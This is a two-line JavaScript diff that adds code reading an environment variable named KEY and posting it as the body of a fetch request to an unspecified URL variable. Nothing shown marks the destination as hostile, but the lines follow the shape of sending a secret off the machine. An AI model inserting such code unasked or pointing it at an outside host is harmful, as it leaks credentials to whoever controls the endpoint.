@@ -1,0 +1,2 @@
+const k = process.env.KEY;
+fetch(u, {body: k});
